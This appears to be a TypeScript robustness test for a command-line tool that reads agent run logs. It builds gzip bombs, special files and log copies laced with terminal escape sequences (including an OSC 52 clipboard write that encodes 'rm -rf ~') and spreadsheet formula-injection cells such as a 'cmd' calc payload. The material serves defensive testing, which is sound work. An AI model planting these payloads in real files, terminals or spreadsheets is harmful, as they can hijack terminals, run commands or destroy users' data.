/**
 * Hostile-files drill: the CLI as a user runs it (`node dist/src/cli/main.js`, one process per command)
 * on a folder of real runs (examples/runs) mixed with files built to hurt: gzip bombs (concatenated gzip
 * members of one repeated MiB, ~1,000:1), a plain file over the input limit, symlinks to /dev/zero and
 * /dev/urandom, a FIFO, a symlink to a folder, a dangling symlink, and copies of real runs whose strings
 * carry ESC sequences (title, clear screen, OSC 52 clipboard write, an 8-bit CSI, a bidi override) and
 * whose task and model are spreadsheet formulas. Every command must end by itself with exit 0 or 1 and
 * one line naming each refused file; the real runs must all be read; nothing printed or written may hold
 * a raw control character, and no CSV cell may start a formula.
 */
import { execFileSync, spawn } from 'node:child_process';
import { cpSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { splitCsvLine } from '../../src/report/record-table.js';

/**
 * ESC ] 0 (window title), ESC [ 2 J (clear screen), ESC ] 52 (clipboard write), 8-bit CSI, RIGHT-TO-LEFT OVERRIDE, and
 * invisible format characters (zero-width space, joiner, word joiner, byte order mark, a tag letter).
 */
export const ESCAPES = '\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\u009b31m\u202e\u200bz\u200d\u2060\ufeff\u{e0041}';
/** Cells a spreadsheet would run (OWASP's examples), used as task, model and run names. */
export const FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+cmd', '-2+3'];

// eslint-disable-next-line no-control-regex -- a raw control character is what must not be found
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]|\p{Cf}/u;
const FORMULA_START = /^[=+\-@\t\r]/;
// `\d+(?:\.\d*)?`, not `\d+\.?\d*`: the same numbers, without splitting a run of digits every way before failing.
const NUMBER = /^[+-]?(\d+(?:\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** Writes a gzip file that expands to `mib` MiB: a JSON prefix, `mib` members of one MiB of `a`, a suffix. */
export function writeGzipBomb(file: string, mib: number): void {
  const fd = openSync(file, 'w');
  try {
    writeSync(fd, gzipSync('{"trajectory": [{"action": "'));
    const member = gzipSync(Buffer.alloc(1024 * 1024, 0x61), { level: 9 });
    for (let i = 0; i < mib; i++) writeSync(fd, member);
    writeSync(fd, gzipSync('"}]}'));
  } finally {
    closeSync(fd);
  }
}

/** Keys whose values a parser matches on (roles, formats, ids, tool names): left as they are, so the log stays one. */
const STRUCTURAL = new Set(['role', 'type', 'trajectory_format', 'id', 'tool_call_id', 'name', 'exit_status', 'mini_version']);

/**
 * A real log with `payload` at the end of every string but structural ones (message texts, commands in
 * tool-call arguments, outputs, paths) and the given task and model (mini-swe-agent keys).
 */
export function hostileLog(text: string, payload: string, task: string, model: string): string {
  const walk = (v: unknown, key = ''): unknown => {
    if (typeof v === 'string') {
      if (STRUCTURAL.has(key) || v === '') return v;
      if (v.startsWith('{')) {
        try {
          return JSON.stringify(walk(JSON.parse(v)));
        } catch {
          // not JSON: a text like any other
        }
      }
      return `${v}${payload}`;
    }
    if (Array.isArray(v)) return v.map((x) => walk(x, key));
    if (v !== null && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x, k)]));
    return v;
  };
  const doc = walk(JSON.parse(text)) as { instance_id?: string; info?: { config?: { model?: { model_name?: string } } } };
  doc.instance_id = task;
  if (doc.info?.config?.model) doc.info.config.model.model_name = model;
  return JSON.stringify(doc);
}

export interface HostileFolder {
  dir: string;
  outcomes: string;
  /** Trajectory files a command must read (real runs and their hostile copies). */
  readable: number;
  /** Files that must be skipped, each with a reason. */
  refused: string[];
  /** The bombs, the oversized plain file and /dev/zero, for the one-file commands. */
  singles: string[];
}

/**
 * The folder: the real runs of `examples/runs`, `hostileCopies` ESC-laden copies of each mini-swe-agent
 * run (under run folders named by formulas and escapes), one gzip bomb per size in `bombsMiB`, a plain
 * file of `plainMiB`, the special files; and an outcomes CSV naming every run.
 */
export function buildHostileFolder(root: string, examples: string, o: { bombsMiB: readonly number[]; plainMiB: number; hostileCopies: number }): HostileFolder {
  const dir = path.join(root, 'runs');
  cpSync(examples, dir, { recursive: true });
  const outcomes = ['task,outcome,run', ...readFileSync(path.join(examples, 'outcomes.csv'), 'utf8').trim().split('\n').slice(1)];
  let readable = readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => /\.(json|traj)$/.test(f) && !f.endsWith('outcomes.csv')).length;
  const mini = path.join(examples, 'mini-swe-agent');
  const sources = readdirSync(mini).map((run) => ({ run, file: path.join(mini, run, readdirSync(path.join(mini, run))[0]!) }));
  const csvQuote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  for (let c = 0; c < o.hostileCopies; c++) {
    const name = FORMULAS[c % FORMULAS.length]!;
    const task = `${name}${ESCAPES}`;
    sources.forEach((s, i) => {
      const run = `${name.replace(/\//g, '_')}${c}-${i}\x1b[31m`;
      mkdirSync(path.join(dir, 'hostile', run), { recursive: true });
      writeFileSync(path.join(dir, 'hostile', run, 'run.traj.json'), hostileLog(readFileSync(s.file, 'utf8'), ESCAPES, task, `${FORMULAS[(c + 1) % FORMULAS.length]}${ESCAPES}`));
      outcomes.push([csvQuote(task), i % 2 === 0 ? 'pass' : 'fail', csvQuote(run)].join(','));
      readable += 1;
    });
  }
  const refused: string[] = [];
  const special = path.join(dir, 'special');
  mkdirSync(special, { recursive: true });
  o.bombsMiB.forEach((mib, b) => {
    refused.push(path.join(special, `bomb-${b}-${mib}MiB.traj.json.gz`));
    writeGzipBomb(refused[b]!, mib);
  });
  const plain = path.join(special, 'huge.jsonl');
  writeFileSync(plain, `{"t":0,"tool":"bash","action":{"kind":"shell","command":"${'a'.repeat(o.plainMiB * 1024 * 1024)}"}}\n`);
  refused.push(plain);
  const link = (target: string, name: string) => {
    symlinkSync(target, path.join(special, name));
    refused.push(path.join(special, name));
  };
  link('/dev/zero', 'zero.json');
  link('/dev/urandom', 'random.traj');
  link(path.join(dir, 'mini-swe-agent'), 'folder.json');
  link(path.join(special, 'nowhere'), 'dangling.json');
  execFileSync('mkfifo', [path.join(special, 'fifo.json')]);
  refused.push(path.join(special, 'fifo.json'));
  const good = path.join(root, 'outside.traj.json');
  cpSync(sources[0]!.file, good);
  symlinkSync(good, path.join(special, 'linked.traj.json'));
  readable += 1;
  writeFileSync(path.join(root, 'outcomes.csv'), `${outcomes.join('\n')}\n`);
  return { dir, outcomes: path.join(root, 'outcomes.csv'), readable, refused, singles: [...refused.slice(0, o.bombsMiB.length), plain, '/dev/zero'] };
}

export interface Measured {
  code: number | null;
  signal: string | null;
  ms: number;
  /** Peak resident memory (VmHWM, sampled every 50 ms; 0 where /proc is missing). */
  peakMB: number;
  stdout: string;
  stderr: string;
}

/** Runs the CLI from dist in its own process, killed after `timeoutMs`. */
export function runCliProcess(cli: string, args: string[], env: Record<string, string>, timeoutMs: number): Promise<Measured> {
  return new Promise((resolve) => {
    const began = performance.now();
    const child = spawn(process.execPath, [cli, ...args], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (b: Buffer) => out.push(b));
    child.stderr.on('data', (b: Buffer) => err.push(b));
    let peak = 0;
    const sample = () => {
      try {
        const kb = /VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1];
        if (kb !== undefined) peak = Math.max(peak, Number(kb) / 1024);
      } catch {
        // exited, or no /proc
      }
    };
    const poll = setInterval(sample, 50);
    const kill = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('close', (code, signal) => {
      clearInterval(poll);
      clearTimeout(kill);
      resolve({ code, signal, ms: performance.now() - began, peakMB: peak, stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8') });
    });
  });
}

/** Every problem with what a command printed and wrote: raw control characters, formula cells. */
export function outputProblems(where: string, texts: ReadonlyArray<{ name: string; text: string }>): string[] {
  const problems: string[] = [];
  for (const { name, text } of texts) {
    if (RAW_CONTROL.test(text)) problems.push(`${where}: ${name} holds a raw control character`);
    if (!name.endsWith('.csv')) continue;
    for (const line of text.split('\n').filter((l) => l !== '')) {
      // A line that leaves a quote open (a cell with a line break goes on) is checked whole.
      const bad = (splitCsvLine(line) ?? [line]).find((c) => FORMULA_START.test(c) && !NUMBER.test(c));
      if (bad !== undefined) problems.push(`${where}: ${name} has a formula cell ${JSON.stringify(bad.slice(0, 40))}`);
    }
  }
  return problems;
}

/** The text files under `dir`, for {@link outputProblems}. */
export function filesUnder(dir: string): Array<{ name: string; text: string }> {
  return readdirSync(dir)
    .filter((f) => statSync(path.join(dir, f)).isFile())
    .map((f) => ({ name: f, text: readFileSync(path.join(dir, f), 'utf8') }));
}

export interface HostileFilesOptions {
  /** dist/src/cli/main.js */
  cli: string;
  /** examples/runs of the checkout. */
  examples: string;
  work: string;
  /** Sizes (MiB, expanded) of the gzip bombs. */
  bombsMiB: readonly number[];
  plainMiB: number;
  hostileCopies: number;
  /** STEPLENS_MAX_INPUT_BYTES for every command (unset: the default, 256 MiB). */
  limit?: string;
  timeoutMs: number;
}

export interface CommandFigure {
  command: string;
  code: number | null;
  ms: number;
  peakMB: number;
}

export interface HostileFilesResult {
  files: number;
  readable: number;
  refused: number;
  commands: CommandFigure[];
  problems: string[];
}

/** Builds the folder and runs report, calibrate, train, label, score, show-pta and calibrate --runs on it. */
export async function runHostileFiles(o: HostileFilesOptions): Promise<HostileFilesResult> {
  const f = buildHostileFolder(o.work, o.examples, o);
  const env: Record<string, string> = o.limit !== undefined ? { STEPLENS_MAX_INPUT_BYTES: o.limit } : {};
  const problems: string[] = [];
  const commands: CommandFigure[] = [];
  const run = async (name: string, args: string[], files: () => Array<{ name: string; text: string }> = () => []) => {
    const r = await runCliProcess(o.cli, args, env, o.timeoutMs);
    commands.push({ command: name, code: r.code, ms: Math.round(r.ms), peakMB: Math.round(r.peakMB) });
    if (r.code !== 0 && r.code !== 1) problems.push(`${name}: ended by ${r.signal ?? `exit ${r.code}`} after ${Math.round(r.ms)} ms: ${r.stderr.slice(-300)}`);
    // eslint-disable-next-line regexp/no-super-linear-move -- a drill run by hand (not the server) reading the stderr of the CLI it started
    if (/internal error|\n\s+at /.test(r.stderr)) problems.push(`${name}: internal error or stack trace: ${r.stderr.slice(0, 300)}`);
    problems.push(...outputProblems(name, [{ name: 'stdout', text: r.stdout }, { name: 'stderr', text: r.stderr }, ...files()]));
    return r;
  };
  const out = path.join(o.work, 'out');
  const report = await run('report', ['report', '--out', out, f.dir], () => filesUnder(out));
  if (report.code === 0 || report.code === 1) {
    const read = (JSON.parse(readFileSync(path.join(out, 'report.json'), 'utf8')) as { inputs: { trajectories: number } }).inputs.trajectories;
    if (read !== f.readable) problems.push(`report: read ${read} trajectories, expected ${f.readable}`);
    for (const file of f.refused) if (!report.stderr.includes(`skipped ${file}: `)) problems.push(`report: ${file} not named as skipped`);
  }
  const cal = path.join(o.work, 'calibrate');
  await run('calibrate', ['calibrate', '--outcomes', f.outcomes, '--out-dir', cal, '--lenient', f.dir], () => filesUnder(cal));
  await run('train', ['train', '--outcomes', f.outcomes, '--out', path.join(o.work, 'forecast.json'), '--folds', '2', '--lenient', f.dir]);
  const hostile = path.join(f.dir, 'hostile');
  const first = path.join(hostile, readdirSync(hostile)[0]!, 'run.traj.json');
  await run('label', ['label', first]);
  await run('score', ['score', first]);
  const pta = path.join(o.work, 'pta.json');
  await run('build-pta', ['build-pta', '--task', 'hostile', '--out', pta, ...readdirSync(hostile).map((d) => path.join(hostile, d, 'run.traj.json'))]);
  await run('show-pta', ['show-pta', pta]);
  for (const file of f.singles) {
    for (const verb of ['label', 'score']) {
      const r = await run(`${verb} ${path.basename(file)}`, [verb, file]);
      const lines = r.stderr.trimEnd().split('\n');
      if (r.code !== 1 || lines.length !== 1 || !lines[0]!.includes(file) || !lines[0]!.includes('STEPLENS_MAX_INPUT_BYTES'))
        problems.push(`${verb} ${file}: not one line naming the file and the limit: ${r.stderr.slice(0, 300)}`);
    }
  }
  const runsBomb = path.join(o.work, 'runs-bomb.jsonl.gz');
  writeGzipBomb(runsBomb, o.bombsMiB[0] ?? 64);
  const r = await run('calibrate --runs bomb', ['calibrate', '--runs', runsBomb]);
  if (r.code !== 1 || !r.stderr.includes('STEPLENS_MAX_INPUT_BYTES')) problems.push(`calibrate --runs bomb: ${r.stderr.slice(0, 300)}`);
  return { files: f.readable + f.refused.length, readable: f.readable, refused: f.refused.length, commands, problems };
}
